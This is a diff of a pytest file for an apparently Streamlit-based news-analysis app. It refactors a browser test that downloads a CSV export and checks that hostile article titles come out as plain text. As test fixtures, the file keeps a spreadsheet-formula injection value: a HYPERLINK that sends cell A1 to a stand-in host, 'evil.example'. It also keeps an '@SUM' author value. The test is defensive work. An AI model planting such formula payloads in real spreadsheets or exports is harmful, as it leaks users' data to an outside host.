@@ -13,7 +13,7 @@ from pathlib import Path
 
 import pytest
 
-from analysis.bench.browser import CHROMIUM_ARGS, VIEWPORT, Server, find_chromium, open_page
+from analysis.bench.browser import VIEWPORT, Server, open_page, serving
 from analysis.present.export import FORMULA_STARTS
 from analysis.store import Store
 
@@ -28,11 +28,6 @@ PAGE_TIMEOUT = 30_000  # ms
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full story")'
 HOSTILE_AUTHOR = "@SUM(1+1)"
 
-sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
-CHROMIUM = find_chromium()
-if CHROMIUM is None:
-    pytest.skip("no Chromium binary (apt-get install chromium)", allow_module_level=True)
-
 
 @pytest.fixture(scope="module")
 def server(tmp_path_factory) -> Iterator[Server]:
@@ -42,24 +37,18 @@ def server(tmp_path_factory) -> Iterator[Server]:
     first = min(int(r["id"]) for r in store.event_articles(None, with_text=False))
     store.edit_article(first, title=HOSTILE_TITLE, authors=[HOSTILE_AUTHOR], user="test")
     store.engine.dispose()
-    srv = Server(url, tmp / "streamlit.log")
-    try:
-        srv.wait_healthy()
+    with serving(url, tmp / "streamlit.log") as srv:
         yield srv
-    finally:
-        srv.stop()
 
 
-def test_a_csv_download_with_a_hostile_title_opens_as_text(server: Server, tmp_path: Path) -> None:
-    with sync_api.sync_playwright() as p:
-        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
-        page = browser.new_page(viewport=VIEWPORT, accept_downloads=True)
-        open_page(page, server.url + "data", "Loaded-language hits", 0, timeout_ms=PAGE_TIMEOUT)
-        with page.expect_download(timeout=PAGE_TIMEOUT) as info:
-            page.locator(".st-key-dl-scores-csv button").first.click()
-        target = tmp_path / info.value.suggested_filename
-        info.value.save_as(str(target))
-        browser.close()
+def test_a_csv_download_with_a_hostile_title_opens_as_text(browser, server: Server, tmp_path: Path) -> None:
+    page = browser.new_page(viewport=VIEWPORT, accept_downloads=True)
+    open_page(page, server.url + "data", "Loaded-language hits", 0, timeout_ms=PAGE_TIMEOUT)
+    with page.expect_download(timeout=PAGE_TIMEOUT) as info:
+        page.locator(".st-key-dl-scores-csv button").first.click()
+    target = tmp_path / info.value.suggested_filename
+    info.value.save_as(str(target))
+    page.close()
     assert target.name.endswith(".csv")
     rows = list(csv.DictReader(io.StringIO(target.read_text("utf-8-sig"))))
     titles = [r["title"] for r in rows]
